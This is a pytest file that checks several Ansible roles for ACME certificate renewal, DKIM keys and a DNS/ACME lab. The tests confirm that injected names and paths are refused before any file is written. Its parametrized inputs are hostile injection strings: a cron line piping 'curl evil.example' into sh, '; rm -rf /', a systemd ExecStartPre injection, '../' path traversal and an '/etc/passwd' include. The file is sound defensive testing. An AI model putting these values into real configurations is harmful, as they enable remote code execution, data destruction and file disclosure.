"""Names that reach rendered files are refused before anything is written (issue #12, item 1 review).

tls_acme writes root's renewal script, cron entry and systemd units from the certificate's
names and paths: a newline in a domain or a space in the job's directory would add a line to
root's script or split systemd's ExecStart=. email_auth makes the DKIM key's path from the
domain and the selector: "../" would write a key outside email_auth_dkim_key_dir.
"""

from __future__ import annotations

import json
import os

import pytest
import yaml

from tests.support import ansible_run


def _run(tmp_path, role: str, role_vars: dict) -> tuple:
    inventory = tmp_path / "hosts.yml"
    inventory.write_text(yaml.safe_dump({"all": {"hosts": {"site": {
        "ansible_connection": "local", "ansible_python_interpreter": ansible_run.sys.executable}}}}))
    playbook = tmp_path / "play.yml"
    playbook.write_text(yaml.safe_dump([{"name": "Apply " + role, "hosts": "site", "gather_facts": False,
                                         "roles": [{"role": "launchready.ops." + role}]}]))
    run = ansible_run.playbook("-i", str(inventory), str(playbook), "-e", json.dumps(role_vars))
    return run, run.stdout.split("TASK [")[-1]


def _tls_vars(tmp_path, **extra) -> dict:
    tls = str(tmp_path / "tls")
    return dict({"tls_acme_domains": ["site.test"], "tls_acme_dns_server": "127.0.2.20", "tls_acme_dns_zone": "site.test",
                 "tls_acme_account_key_path": tls + "/account.key", "tls_acme_private_key_path": tls + "/privkey.pem",
                 "tls_acme_csr_path": tls + "/request.csr", "tls_acme_cert_path": tls + "/cert.pem",
                 "tls_acme_chain_path": tls + "/chain.pem", "tls_acme_fullchain_path": tls + "/fullchain.pem",
                 "tls_acme_runtime_dir": str(tmp_path / "runtime")}, **extra)


@pytest.mark.parametrize("variable,value", [
    ("tls_acme_domains", ["site.test\n* * * * * root curl evil.example | sh"]),
    ("tls_acme_renew_dir", "/tmp/renew dir; rm -rf /"),
    ("tls_acme_renew_name", "renew\nExecStartPre=/bin/sh -c id"),
    ("tls_acme_renew_minute", "5 * * * *"),
])
def test_tls_acme_refuses_values_that_would_rewrite_the_renewal_job(tmp_path, variable, value):
    run, last_task = _run(tmp_path, "tls_acme", _tls_vars(tmp_path, **{variable: value}))
    assert run.returncode != 0
    assert last_task.startswith("launchready.ops.tls_acme : Refuse settings"), run.stdout[-3000:]
    assert variable in last_task and json.dumps(value if isinstance(value, str) else value[0])[1:-1] in last_task
    assert not os.path.exists(tmp_path / "tls") and not os.path.exists(tmp_path / "runtime"), "nothing was written"


@pytest.mark.parametrize("variable,value,needle", [
    ("email_auth_dkim_selectors", ["../../../../tmp/evil"], "email_auth_dkim_selectors"),
    ("email_auth_domain", "shop.test/../../etc", "email_auth_domain"),
])
def test_email_auth_refuses_selectors_and_domains_that_leave_the_key_directory(tmp_path, variable, value, needle):
    role_vars = {"email_auth_domain": "shop.test", "email_auth_spf_senders": ["127.0.2.30"],
                 "email_auth_dkim_key_dir": str(tmp_path / "keys"), "email_auth_nsupdate_server": "127.0.2.20",
                 "email_auth_verify": False, variable: value}
    run, last_task = _run(tmp_path, "email_auth", role_vars)
    assert run.returncode != 0
    assert "Refuse" in last_task and needle in last_task, run.stdout[-3000:]
    assert not os.path.exists(tmp_path / "keys"), "no key was written"


@pytest.mark.parametrize("extra,variable", [
    ({"lab_edge_address": "127.0.2.40; include /etc/passwd"}, "lab_edge_address"),
    ({"lab_dns_listen": ["127.0.2.41", "127.0.2.42 { }"]}, "lab_dns_listen"),
    ({"lab_zone": "shop.test\n@ IN NS evil.example."}, "lab_zone"),
    ({"lab_pebble_listen": "127.0.2.43:14000 -strict"}, "lab_pebble_listen"),
])
def test_the_lab_refuses_an_address_plan_that_would_rewrite_its_configs(tmp_path, extra, variable):
    # knot.conf, the zone file, pebble's JSON and nginx.conf are rendered from the address plan.
    lab_dir = tmp_path / "lab"
    run = ansible_run.playbook("-i", os.path.join(ansible_run.ROOT, "inventories", "lab"),
                               os.path.join(ansible_run.ROOT, "playbooks", "lab.yml"), "-e", "lab_state=up",
                               "-e", json.dumps(dict(extra, lab_dir=str(lab_dir))))
    assert run.returncode != 0
    last_task = run.stdout.split("TASK [")[-1]
    assert last_task.startswith("launchready.ops.lab : Check the lab's address plan"), run.stdout[-3000:]
    assert "%s: " % variable in last_task and "is refused" in last_task
    assert not lab_dir.exists(), "nothing was written"
